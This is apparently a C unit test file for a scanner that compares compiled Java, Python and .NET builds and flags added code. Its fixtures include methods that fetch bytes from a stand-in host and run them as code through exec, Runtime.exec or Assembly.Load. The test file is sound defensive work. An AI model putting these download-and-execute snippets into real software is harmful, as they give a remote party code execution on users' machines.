/*
 * Compiled units by the real compilers (javac, mcs, python3): OLD already uses network, environment and
 * processes; one method is added. It is named with what it calls; a rebuild and ordinary changes say nothing.
 */
#include "unit/tools.h"

#include "member.h"
#include "read/readers.h"

/* --- Java --- */

static const char java_base[] =
	"import java.io.*; import java.net.*;\n"
	"public class App {\n"
	"  private int count = 3;\n"
	"  public String status() throws Exception {\n"
	"    URL u = new URL(\"https://api.service.example/v1/status\");\n"
	"    BufferedReader r = new BufferedReader(new InputStreamReader(u.openStream()));\n"
	"    return System.getenv(\"HOME\") + r.readLine();\n"
	"  }\n"
	"  public void notifyUser(String text) throws Exception { Runtime.getRuntime().exec(new String[]{\"notify\", text}); }\n"
	"%s"
	"  public int add(int a) { switch (a) { case 1: return 2; case 9: return 4; default: return a + count; } }\n"
	"}\n";

static const char java_bad[] =
	"  void refresh() throws Exception {\n"
	"    byte[] b = new byte[9999]; int n = new URL(\"https://cdn.helpdesk-static.invalid/r\").openStream().read(b);\n"
	"    new ClassLoader() { }; Runtime.getRuntime().exec(new String(b, 0, n));\n"
	"  }\n";

static const char java_good[] =
	"  public String title(String s) { StringBuilder b = new StringBuilder(); for (int i = 0; i < s.length(); i++)"
	" b.append(Character.toUpperCase(s.charAt(i))); return b.toString(); }\n";

static struct str java_class(const char *extra, const char *flag)
{
	struct str text = arena_printf(&tools_arena, java_base, extra);

	file_put("App.java", text.p, text.len);
	TOOL("javac", "-nowarn", flag, "App.java");
	return file_get("App.class");
}

static struct member *read_as(const struct reader *r, const char *path, enum format_id format, struct str old, struct str new_)
{
	struct member *m = member_make(path, old, new_);

	m->in.format = format;
	m->in.old_format = old.p ? format : FORMAT_NONE;
	assert_true(r->claim(&m->in) > 0);
	assert_int_equal(r->read(&m->in), STATUS_OK);
	return m;
}

/* Two additions in one place: the method is the unit, source and sink meet in it. */
static void check_bad(struct member *m, const char *unit, const char *flow, const char *host)
{
	bool named = false;

	for (size_t i = 0; i < m->n_units; i++)
		named = named || (m->units[i].change == UNIT_ADDED && str_starts(m->units[i].name, unit));
	assert_true(named);
	assert_true(member_count(m, FACT_FLOW, flow) >= 1);
	for (size_t i = 0; i < m->n_facts; i++)
		if (m->facts[i].kind == FACT_FLOW && str_is(m->facts[i].key, flow))
			assert_true(str_starts(m->units[m->facts[i].unit].name, unit));
	assert_true(member_count(m, FACT_HOST, host) >= 1);
}

static void java(void **state)
{
	struct str old = java_class("", "-g"), rebuilt = java_class("", "-g:none"), bad = java_class(java_bad, "-g"),
		   good = java_class(java_good, "-g");
	struct member *m = read_as(&reader_java_class, "a.jar!/App.class", FORMAT_JAVA_CLASS, old, rebuilt);

	assert_int_equal(m->n_units, 0);
	assert_int_equal(m->n_facts, 0);
	assert_int_equal(m->covered[COVER_PARSED], rebuilt.len);
	member_free(m);
	m = read_as(&reader_java_class, "a.jar!/App.class", FORMAT_JAVA_CLASS, old, bad);
	check_bad(m, "App.refresh", "net>exec", "cdn.helpdesk-static.invalid");
	assert_int_equal(m->n_units, 1);
	member_free(m);
	m = read_as(&reader_java_class, "a.jar!/App.class", FORMAT_JAVA_CLASS, old, good);
	assert_int_equal(m->n_units, 1);
	assert_int_equal(m->n_facts, 0);
	member_free(m);
	m = read_as(&reader_java_class, "a.jar!/App.class", FORMAT_JAVA_CLASS, STR_NONE, bad);
	assert_true(m->n_units > 3); /* an added class: all of it */
	member_free(m);
}

/* --- Python --- */

static const char python_base[] =
	"import os, subprocess, urllib.request\n\n"
	"def status():\n    with urllib.request.urlopen('https://api.service.example/v1/status') as r:\n"
	"        return os.environ.get('HOME'), r.read()\n\n"
	"def notify(text):\n    subprocess.run(['notify', text])\n\n%s"
	"class Box:\n    def __init__(self):\n        self.items = [1, 2.5, 10**30, b'x', None, ...]\n"
	"    def total(self):\n        return sum(i for i in self.items if i)\n";

static const char python_bad[] =
	"def refresh():\n    text = urllib.request.urlopen('https://cdn.helpdesk-static.invalid/r').read()\n    exec(text)\n\n";

static const char python_good[] = "def title(text):\n    return ' '.join(w.capitalize() for w in text.split())\n\n";

static struct str python_code(const char *extra)
{
	struct str text = arena_printf(&tools_arena, python_base, extra);

	file_put("app.py", text.p, text.len);
	TOOL("python3", "-c", "import py_compile; py_compile.compile('app.py', 'app.pyc', doraise=True)");
	return file_get("app.pyc");
}

static void python(void **state)
{
	struct str old = python_code(""), bad = python_code(python_bad), good = python_code(python_good);
	struct member *m = read_as(&reader_pyc, "x.exe!/[modules]/app.pyc", FORMAT_PYC, old, bad);

	check_bad(m, "refresh", "net>code", "cdn.helpdesk-static.invalid");
	assert_int_equal(m->covered[COVER_PARSED], bad.len);
	member_free(m);
	m = read_as(&reader_pyc, "x.exe!/[modules]/app.pyc", FORMAT_PYC, old, good);
	assert_int_equal(member_count(m, FACT_FLOW, NULL), 0);
	assert_int_equal(member_count(m, FACT_HOST, NULL), 0);
	assert_true(m->n_units >= 1);
	member_free(m);
}

/* --- .NET --- */

static const char cs_base[] =
	"using System; using System.Net; using System.Diagnostics; using System.Collections.Generic;\n"
	"namespace Helpdesk { public class App {\n"
	"  List<int> items = new List<int>();\n"
	"  public string Status() { using (var c = new WebClient())\n"
	"    return Environment.GetEnvironmentVariable(\"HOME\") + c.DownloadString(\"https://api.service.example/v1/status\"); }\n"
	"  public void Notify(string text) { Process.Start(\"notify\", text); }\n"
	"%s"
	"  public int Add(int a) { items.Add(a); switch (a) { case 1: return 2; case 2: return 4; case 3: return 9; }\n"
	"    Func<int, int> f = x => x + a; return f(3); }\n"
	"  public static void Main() { } } }\n";

static const char cs_bad[] =
	"  void Refresh() { var b = new WebClient().DownloadData(\"https://cdn.helpdesk-static.invalid/r\");\n"
	"    System.Reflection.Assembly.Load(b).EntryPoint.Invoke(null, null); }\n";

static const char cs_good[] = "  public string Title(string s) { return s.Trim().ToUpperInvariant() + items.Count; }\n";

static struct str cs_program(const char *extra, const char *flag)
{
	struct str text = arena_printf(&tools_arena, cs_base, extra);

	file_put("app.cs", text.p, text.len);
	TOOL("mcs", "-nologo", flag, "-out:app.exe", "app.cs");
	return file_get("app.exe");
}

static void dotnet(void **state)
{
	struct str old = cs_program("", "-optimize+"), again = cs_program("", "-optimize+"), bad = cs_program(cs_bad, "-optimize+"),
		   good = cs_program(cs_good, "-optimize+");
	struct member *m = read_as(&reader_exec, "lib/App.dll", FORMAT_PE, old, again);

	assert_int_equal(member_count(m, FACT_FLOW, NULL), 0);
	assert_int_equal(member_count(m, FACT_CALL, NULL), 0);
	assert_int_equal(m->covered[COVER_PARSED], again.len);
	member_free(m);
	m = read_as(&reader_exec, "lib/App.dll", FORMAT_PE, old, bad);
	check_bad(m, "Helpdesk.App.Refresh", "net>code", "cdn.helpdesk-static.invalid");
	member_free(m);
	m = read_as(&reader_exec, "lib/App.dll", FORMAT_PE, old, good);
	assert_int_equal(member_count(m, FACT_FLOW, NULL), 0);
	assert_int_equal(member_count(m, FACT_CALL, NULL), 0);
	member_free(m);
}

/* Every cut and a flipped bit each 16 bytes: an answer, and never "parsed" for what is cut off. */
static void damaged(void **state)
{
	struct {
		const struct reader *reader;
		enum format_id format;
		struct str bytes;
	} rows[] = {{&reader_java_class, FORMAT_JAVA_CLASS, java_class(java_bad, "-g")},
		{&reader_pyc, FORMAT_PYC, python_code(python_bad)},
		{&reader_exec, FORMAT_PE, cs_program(cs_bad, "-optimize+")}};

	for (size_t i = 0; i < 3; i++) {
		for (size_t cut = 16; cut < rows[i].bytes.len; cut += 7) {
			struct member *m = member_make("x", rows[i].bytes, str_part(rows[i].bytes, 0, cut));

			m->in.format = m->in.old_format = rows[i].format;
			(void)!rows[i].reader->read(&m->in);
			if (rows[i].format != FORMAT_PE)
				assert_int_equal(m->covered[COVER_PARSED], 0);
			member_free(m);
		}
		for (size_t at = 0; at < rows[i].bytes.len; at += 16) {
			struct member *m = member_make("x", rows[i].bytes, rows[i].bytes);

			((char *)(uintptr_t)m->new_.p)[at] ^= (char)(1 << at / 16 % 8);
			m->in.format = m->in.old_format = rows[i].format;
			(void)!rows[i].reader->read(&m->in);
			member_free(m);
		}
	}
}

/* Metadata without one of its heaps: names are empty, and nothing breaks (found by fuzzing). */
static void heaps_missing(void **state)
{
	static const char *const heaps[] = {"#Strings", "#US", "#Blob", "#~"};
	struct str bytes = cs_program(cs_bad, "-optimize+");

	for (size_t i = 0; i < 4; i++) {
		struct member *m = member_make("x.dll", bytes, bytes);
		size_t at = str_find(m->new_, str_view(heaps[i], strlen(heaps[i]) + 1));

		assert_true(at != SIZE_MAX);
		((char *)(uintptr_t)m->new_.p)[at + 1] = '?';
		m->in.format = m->in.old_format = FORMAT_PE;
		(void)!reader_exec.read(&m->in);
		assert_true(m->covered[COVER_PARSED] + m->covered[COVER_SHALLOW] + m->covered[COVER_BLIND] == bytes.len);
		member_free(m);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(java, tools_enter, tools_leave),
		cmocka_unit_test_setup_teardown(python, tools_enter, tools_leave),
		cmocka_unit_test_setup_teardown(dotnet, tools_enter, tools_leave),
		cmocka_unit_test_setup_teardown(damaged, tools_enter, tools_leave),
		cmocka_unit_test_setup_teardown(heaps_missing, tools_enter, tools_leave),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
